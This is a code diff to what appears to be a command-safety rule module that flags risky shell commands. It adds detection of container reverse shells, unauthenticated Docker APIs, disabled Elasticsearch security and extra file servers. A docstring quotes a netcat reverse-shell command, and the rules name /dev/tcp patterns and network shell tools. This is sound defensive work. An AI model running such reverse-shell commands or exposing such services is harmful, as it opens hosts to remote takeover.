@@ -11,8 +11,9 @@ import re
 from tui.core.safety import paths
 from tui.core.safety.context import Context
 from tui.core.safety.parse import Command
-from tui.core.safety.rules import exposure
+from tui.core.safety.rules import exposure, network
 from tui.core.safety.rules.common import CRITICAL, HIGH, MODERATE, Rule, subcommand
+from tui.core.safety.unwrap import SHELLS
 from tui.core.safety.words import split_words
 
 _LOOPBACK = ("127.", "localhost", "::1", "[::1]")
@@ -200,7 +201,7 @@ def open_to_world(command: Command, ctx: Context) -> None:
 
 _NO_PASSWORD_ENV = re.compile(
     r"^(MYSQL_ALLOW_EMPTY_PASSWORD|MARIADB_ALLOW_EMPTY_ROOT_PASSWORD|ALLOW_EMPTY_PASSWORD)="
-    r"(yes|1|true)$|^POSTGRES_HOST_AUTH_METHOD=trust$",
+    r"(yes|1|true)$|^POSTGRES_HOST_AUTH_METHOD=trust$|^xpack\.security\.enabled=false$",
     re.I,
 )
 _CONTAINER_VALUES = frozenset(
@@ -219,6 +220,8 @@ def container_service(command: Command, ctx: Context) -> None:
     if sub not in ("run", "create"):
         return
     argv = rest.argv
+    image = _image_index(argv)
+    _container_shell(rest.wrapped(rest.args[image + 1 :], command.name), ctx)
     published = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in ("-p", "--publish")]
     open_ = any(not p.startswith(("127.", "localhost", "[::1]")) for p in published) or any(
         a in ("-P", "--publish-all", "--network=host", "--net=host") for a in argv
@@ -226,21 +229,17 @@ def container_service(command: Command, ctx: Context) -> None:
     if not open_:
         return
     env = [argv[i + 1] for i, a in enumerate(argv[:-1]) if a in ("-e", "--env")]
-    index = next(
-        (
-            i
-            for i, a in enumerate(argv)
-            if not a.startswith("-") and (i == 0 or argv[i - 1] not in _CONTAINER_VALUES)
-        ),
-        len(argv),
-    )
-    inner = argv[index + 1 :]
+    inner = argv[image + 1 :]
     no_token = any(
         re.fullmatch(r"--(NotebookApp|ServerApp|IdentityProvider)\.(token|password)=['\"]*", a)
         for a in inner
     )
-    if no_token:
-        reason = "publishes a notebook server with no password: anyone who reaches it runs code"
+    docker_api = any(
+        h.startswith("tcp://") and is_open(h[6:]) for h in inner if "://" in h
+    ) and not any(a.startswith("--tls") for a in inner)
+    if no_token or docker_api:
+        what = "a Docker API" if docker_api else "a notebook server"
+        reason = f"publishes {what} with no password: anyone who reaches it runs code"
         ctx.add(CRITICAL, reason, command)
     elif (
         any(_NO_PASSWORD_ENV.match(e) for e in env)
@@ -248,6 +247,34 @@ def container_service(command: Command, ctx: Context) -> None:
     ):
         reason = "publishes a database that lets anyone in without a password"
         ctx.add(HIGH, reason, command)
+
+
+def _image_index(argv: list[str]) -> int:
+    """Where the image stands in `run [options] IMAGE [command]` (the first operand)."""
+    return next(
+        (
+            i
+            for i, a in enumerate(argv)
+            if not a.startswith("-") and (i == 0 or argv[i - 1] not in _CONTAINER_VALUES)
+        ),
+        len(argv),
+    )
+
+
+def _container_shell(inner: Command, ctx: Context) -> None:
+    """`docker run alpine nc HOST 4444 -e sh`: the container's network is the host's way out,
+    so a shell handed to a connection is one whatever the container holds."""
+    if not inner.words:
+        return
+    if inner.name in network.NETCATS:
+        network.netcat(inner, ctx)
+    elif inner.name == "socat":
+        network.socat(inner, ctx)
+    elif inner.name in SHELLS and any("/dev/tcp/" in a or "/dev/udp/" in a for a in inner.argv):
+        ctx.add(CRITICAL, REVERSE_SHELL, inner)
+
+
+REVERSE_SHELL = "connects a shell to a remote machine (reverse shell)"
 
 
 def python_ftp(command: Command, ctx: Context) -> None:
@@ -299,14 +326,26 @@ def static_server(command: Command, ctx: Context) -> None:
     elif name == "caddy" and operands[:1] == ["file-server"]:
         bind = option_value(argv, "--listen") or ""
         exposure.file_server(command, ctx, option_value(argv, "--root", "-r") or ".", bind)
-    elif name == "ruby" and "httpd" in argv and any(a.startswith("-run") for a in argv):
-        served = argv[argv.index("httpd") + 1] if argv[-1] != "httpd" else "."
-        bind = option_value(argv, "-b", "--bind-address") or ""
-        exposure.file_server(command, ctx, "." if served.startswith("-") else served, bind)
+    elif name == "ruby" and any(a.startswith("-run") for a in argv):
+        _ruby_httpd(command, ctx)
+    elif name == "twistd" and "web" in operands:
+        path = option_value(argv, "--path") or "."
+        exposure.file_server(command, ctx, path, option_value(argv, "--listen") or "")
+
+
+def _ruby_httpd(command: Command, ctx: Context) -> None:
+    """`ruby -run -e httpd DIR`, `ruby -run -ehttpd DIR -p8000`: un.rb's file server."""
+    argv = command.argv
+    index = next((i for i, a in enumerate(argv) if a in ("httpd", "-ehttpd")), None)
+    if index is None:
+        return
+    rest = [a for a in argv[index + 1 :] if not a.startswith("-") and not a.isdigit()]
+    bind = option_value(argv, "-b", "--bind-address") or ""
+    exposure.file_server(command, ctx, rest[0] if rest else ".", bind)
 
 
 RULES: dict[str, Rule] = {
-    **dict.fromkeys(split_words("http-server serve live-server"), static_server),
+    **dict.fromkeys(split_words("http-server serve live-server twistd"), static_server),
     "dockerd": dockerd,
     "mongod": mongod,
     **dict.fromkeys(split_words("jupyter jupyter-notebook jupyter-lab jupyter-server"), jupyter),
